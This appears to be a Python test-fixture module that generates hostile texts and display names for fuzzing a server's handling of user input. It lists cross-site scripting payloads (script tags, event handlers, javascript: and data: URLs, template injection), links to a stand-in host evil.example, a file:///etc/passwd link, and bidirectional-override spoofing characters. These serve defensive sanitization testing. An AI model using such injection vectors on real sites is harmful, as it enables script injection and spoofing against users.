"""Texts and names of somebody who means harm to whoever reads them."""

import random

MARKUP = [
    "<script>window.__hit=1</script>",
    "<img src=x onerror=window.__hit=1>",
    "<svg onload=window.__hit=1>",
    "<svg><script>window.__hit=1</script></svg>",
    "<math><mtext></mtext><img src onerror=window.__hit=1></math>",
    "</textarea><script>window.__hit=1</script>",
    "</div></li></ol><iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<a href='javascript:window.__hit=1'>here</a>",
    "<details open ontoggle=window.__hit=1>",
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__hit=1'>",
    "<object data='data:text/html,<script>parent.__hit=1</script>'></object>",
    "<form action='https://evil.example'><input autofocus onfocus=window.__hit=1></form>",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "{{constructor.constructor('window.__hit=1')()}}",
    "${window.__hit=1}",
    "<!--><script>window.__hit=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'>",
    "' onmouseover='window.__hit=1",
    '" style="position:fixed;inset:0" onclick="window.__hit=1',
]
LINKS = [
    "javascript:window.__hit=1",
    "JaVaScRiPt:window.__hit=1",
    "java\tscript:window.__hit=1",
    "data:text/html,<script>window.__hit=1</script>",
    "vbscript:window.__hit=1",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "view-source:https://example.org",
    'https://example.org/"onmouseover="window.__hit=1',
    "https://example.org/<script>window.__hit=1</script>",
    "https://example.org/'><img src=x onerror=window.__hit=1>",
    "http://javascript:window.__hit=1@example.org/",
    "https://example.org/\u202egpj.exe",
    "mailto:ann@example.org?body=<script>window.__hit=1</script>",
    "https://[::1",
    "https://example.org:99999/",
    "//example.org/",
]
TURNS = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u061c", "\u202c"]
LONG = ["W" * 400, "‮" * 90, "\u0301" * 300, "a\u0489" * 100, "😀" * 100, "&nbsp;" * 60, "\n" * 60]
WORDS = ["Ann", "@Ann", "@Ben,", "see", "(", ")", "مرحبا", "שלום", "\u200b", "\ufeff", "\u0007"]


def texts(count: int, seed: int = 1) -> list[str]:
    """Texts that are each put together anew from what does harm; the same for the same seed."""
    chance = random.Random(seed)
    everything = [*MARKUP, *LINKS, *TURNS, *LONG, *WORDS]
    # The first are what there is, each by itself.
    alone = [text for text in everything if text.strip()]
    mixed = [_mixed(chance, everything) for _ in range(count - len(alone))]
    return [*alone, *mixed][:count]


def _mixed(chance: random.Random, parts: list[str]) -> str:
    chosen = chance.choices(parts, k=chance.randint(2, 5))
    text = chance.choice(["", " ", "\n", " "]).join(chosen)
    # What its letters are, the server takes up to 4,096 bytes.
    return "x" + text.encode()[:4000].decode(errors="ignore")


def names() -> list[str]:
    """Names of at most 80 characters."""
    return [
        "<img src=x onerror=window.__hit=1>",
        "</bdi><script>window.__hit=1</script>",
        "\u202eevil\u202d",
        "\u2069\u2069\u202eturned",
        '" onmouseover="window.__hit=1',
        "W" * 80,
        "Z" + "\u0489" * 79,
        "javascript:window.__hit=1",
    ]
